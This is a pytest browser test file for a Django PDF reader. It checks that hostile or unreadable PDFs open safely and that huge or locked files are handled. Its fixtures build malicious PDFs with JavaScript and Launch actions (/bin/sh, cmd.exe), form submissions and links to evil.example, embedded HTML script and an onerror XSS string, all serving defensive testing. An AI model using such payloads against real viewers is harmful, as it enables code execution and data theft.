"""PDFs that mean no good, and PDFs that cannot be read: nothing runs, nothing is asked of anybody, something is said."""

from typing import Any
from wsgiref.util import setup_testing_defaults

import pytest
from django.conf import settings

from florilegium.config.wsgi import application
from florilegium.library.models import Annotation, Bookmark
from tests.archive.pdfs import EXTRA, Sheet, lines_of, locked, pdf_of
from tests.cast import Cast

from .annotating import wait_painted, wait_said, watch
from .conftest import Window
from .sheets import PROSE, book, kept, opened, select
from .test_pages import faults_of
from .test_replay import Witness

pytestmark = pytest.mark.browser

_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\); app.launchURL\\('https://evil.example/js'\\))>>"
_LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<</S/URI/URI(https://evil.example/uri)>>>>"
_FORM = (
    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><subform>"
    b"<script>app.alert(2)</script><image href='https://evil.example/xfa'/></subform></template></xdp:xdp>"
)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


def _acting(action: bytes) -> bytes:
    """Something is to happen when it is opened, when its page is shown, and when one presses anywhere."""
    pressed = b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 612 792]/A %s/AA<</E %s>>>>" % (action, action)
    more = b"/Annots[%d 0 R]/AA<</O %s>>" % (EXTRA, action)
    return pdf_of([Sheet(lines_of(PROSE), more=more)], catalog=b"/OpenAction %s" % action, extra=[pressed])


HOSTILE = {
    "script": _acting(_SCRIPT),
    "launch": _acting(b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"),
    "uri": _acting(b"<</S/URI/URI(https://evil.example/uri)>>"),
    "sending": _acting(b"<</S/SubmitForm/F(https://evil.example/form)/Fields[]/Flags 4>>"),
    "elsewhere": _acting(b"<</S/GoToR/F(https://evil.example/other.pdf)/D[0/Fit]>>"),
    "link": pdf_of([Sheet(lines_of(PROSE), more=b"/Annots[%d 0 R]" % EXTRA)], extra=[_LINK]),
    "picture from elsewhere": pdf_of(
        [Sheet(lines_of(PROSE), more=b"/Thumb %d 0 R" % EXTRA)],
        extra=[_stream(b"", b"/Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(https://evil.example/x.png)>>")],
    ),
    "file within": pdf_of(
        [Sheet(lines_of(PROSE))],
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.html)%d 0 R]>>/JavaScript<</Names[(x)%s]>>>>" % (EXTRA, _SCRIPT),
        extra=[
            b"<</Type/Filespec/F(a.html)/EF<</F %d 0 R>>>>" % (EXTRA + 1),
            _stream(b"<script>alert(1)</script>", b"/Type/EmbeddedFile/Subtype/text#2Fhtml"),
        ],
    ),
    "form of its own": pdf_of(
        [Sheet(lines_of(PROSE))], catalog=b"/AcroForm<</XFA %d 0 R/Fields[]>>/NeedsRendering true" % EXTRA, extra=[_stream(_FORM)]
    ),
    "markup as text": pdf_of([Sheet(lines_of(PROSE + "\n<img src=x onerror=alert(1)>"))]),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_pdf_is_read_and_nothing_else_happens(
    window: Window, people: Cast, live_server: Any, name: str
) -> None:
    context = window(who="alice")
    witness = Witness(context, live_server.url)
    page, complaints = opened(context, kept(people, HOSTILE[name]))
    page.mouse.click(*_middle(page.locator("#page-1")))
    select(page, "lit since noon.")
    page.locator(".bar .heard").wait_for()
    page.wait_for_timeout(300)
    witness.check(name)
    assert (len(context.pages), page.url.removeprefix(live_server.url)) == (1, kept_path(page.url))
    assert page.locator("#page-1 :is(a, form, input, iframe, img, script, object)").count() == 0
    assert complaints == []


def kept_path(url: str) -> str:
    """The address of the sheets without its site: nothing has led away from it."""
    return f"/group/shelf/bookmark/{Bookmark.objects.get().pk}/snapshot/{url.rsplit('/', 1)[-1]}"


def _middle(locator: Any) -> tuple[float, float]:
    box = locator.bounding_box()
    return box["x"] + box["width"] / 2, box["y"] + min(box["height"], 800) / 2


@pytest.mark.parametrize(("width", "height"), [(14_400, 14_400), (200_000, 10), (10, 200_000), (3, 3)])
def test_a_page_of_any_size_has_a_canvas_that_a_machine_can_hold(
    window: Window, people: Cast, width: int, height: int
) -> None:
    sheets = [Sheet(lines_of(PROSE), width=width, height=height)] * 40
    page, complaints = opened(window(who="alice"), kept(people, pdf_of(sheets)))
    for _ in range(3):
        page.get_by_role("button", name="Larger").click()
    page.locator("#page-1[data-drawn]").wait_for()
    page.wait_for_timeout(500)
    sizes = page.evaluate(
        "[...document.querySelectorAll('.pdf-page')].flatMap((page) => [...page.shadowRoot?.querySelectorAll('canvas') ?? []])"
        ".map(({width, height}) => [width, height])"
    )
    assert sizes and max(w * h for w, h in sizes) <= 8_000_000 and max(max(size) for size in sizes) <= 8_000
    assert sum(w * h for w, h in sizes) <= 40_000_000
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert complaints == []


def test_a_pdf_of_five_thousand_pages_stays_usable(window: Window, people: Cast) -> None:
    sheets = [Sheet(lines_of(f"This is page {n}.", top=60), width=300, height=100) for n in range(1, 5_001)]
    # the server reads the first two thousand; further on the browser does
    page, complaints = opened(window(who="alice"), kept(people, pdf_of(sheets)))
    assert page.locator(".pdf-page").count() == 5_000
    page.get_by_label("Page", exact=True).fill("4321")
    page.keyboard.press("Enter")
    page.locator("#page-4321[data-drawn]").wait_for()
    select(page, "page 4321.", on=4321)
    page.locator(".bar .heard").wait_for()
    page.keyboard.press("1")
    said = wait_said(lambda: Annotation.objects.filter(quote="page 4321."))
    assert said.selectors[-1]["value"] == "page=4321"
    page.reload()
    wait_painted(page, "page 4321.", "yellow-0-mine")  # far from the window, where nothing has been read yet
    assert page.locator("canvas").count() <= 40
    assert complaints == []


def test_words_that_the_server_could_not_read_are_read_by_the_browser(window: Window, people: Cast) -> None:
    page, complaints = opened(window(who="alice"), kept(people, book(3), text=""))
    select(page, "lit since noon.", on=2)
    page.locator(".bar .heard").wait_for()
    page.keyboard.press("2")
    said = wait_said(lambda: Annotation.objects.filter(quote="lit since noon."))
    assert said.selectors[-1]["value"] == "page=2"
    page.reload()
    wait_painted(page, "lit since noon.", "blue-0-mine")
    assert complaints == []


@pytest.mark.parametrize("language", ["en", "fr"])
@pytest.mark.parametrize("name", ["locked", "broken", "offline"])
def test_what_cannot_be_shown_is_said_and_the_file_is_there(
    window: Window, people: Cast, name: str, language: str
) -> None:
    content = locked() if name == "locked" else b"%PDF-1.7\nand nothing that follows from it"
    here = kept(people, content, text="")
    page = window(who="alice", language=language).new_page()
    if name == "offline":
        page.route("**/copy", lambda route: route.abort())
    page.goto(here.sheets)
    alert = page.get_by_role("alert")
    alert.wait_for()
    words = {
        ("locked", "en"): "asks for a password", ("locked", "fr"): "demande un mot de passe",
        ("broken", "en"): "is damaged", ("broken", "fr"): "est abîmé",
        ("offline", "en"): "could not be fetched", ("offline", "fr"): "n’a pas pu être chargé",
    }  # fmt: skip
    assert words[name, language] in alert.inner_text()
    assert alert.get_by_role("link").get_attribute("href") == f"{here.sheets}/copy"
    assert faults_of(page) == []
    assert page.locator("[data-sheet-bar]").is_hidden()


def test_without_a_script_there_are_its_words_and_the_file(window: Window, people: Cast) -> None:
    here = kept(people, book(3))
    page = window(who="alice", javascript=False).new_page()
    page.goto(here.sheets)
    assert "This is page 3." in page.locator("#page-3").inner_text()
    assert page.get_by_role("link", name="The PDF file").first.get_attribute("href") == f"{here.sheets}/copy"
    assert page.locator("[data-sheet-bar]").is_hidden() and page.get_by_role("alert").count() == 0


def _policy_of_the_worker() -> str:
    """What our server says with the worker's file."""
    (path,) = (settings.STATIC_ROOT / "florilegium" / "built" / "pdf").glob("*/pdf.worker.mjs")
    asked: dict[str, Any] = {"PATH_INFO": f"/static/{path.relative_to(settings.STATIC_ROOT).as_posix()}"}
    setup_testing_defaults(asked)
    told: dict[str, str] = {}
    body = application(asked, lambda _status, headers, *_error: told.update(headers))
    body.close()
    return told["Content-Security-Policy"]


def test_the_worker_does_its_work_under_the_policy_of_its_file(window: Window, people: Cast) -> None:
    policy = _policy_of_the_worker()
    picture = (
        b"/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode"
    )
    drawing = _stream(b"q 100 0 0 100 72 500 cm /Im Do Q BT /F1 12 Tf 72 700 Td (Under a policy.) Tj ET")
    more = b"/Contents %d 0 R/Resources<</Font<</F1 3 0 R>>/XObject<</Im %d 0 R>>>>" % (EXTRA, EXTRA + 1)
    content = pdf_of([Sheet([], more=more)], extra=[drawing, _stream(b"\0" * 40, picture)])
    page = window(who="alice").new_page()
    complaints = watch(page)
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url.rsplit("/", 1)[-1]))
    page.route(
        "**/pdf.worker.mjs",
        lambda route: route.fulfill(response=route.fetch(), headers={"Content-Type": "text/javascript", "Content-Security-Policy": policy}),
    )  # fmt: skip
    page.goto(kept(people, content, text="Under a policy.").sheets)
    page.locator("#page-1[data-drawn]").wait_for()
    page.workers[0].evaluate(
        "() => fetch('https://evil.example/').then(() => self.out = 'out', () => self.out = 'kept in')"
    )
    assert page.workers[0].evaluate("self.out") == "kept in"
    assert "jbig2.wasm" in asked and "pdf.worker.mjs" in asked
    assert [text for text in complaints if "evil.example" not in text] == []
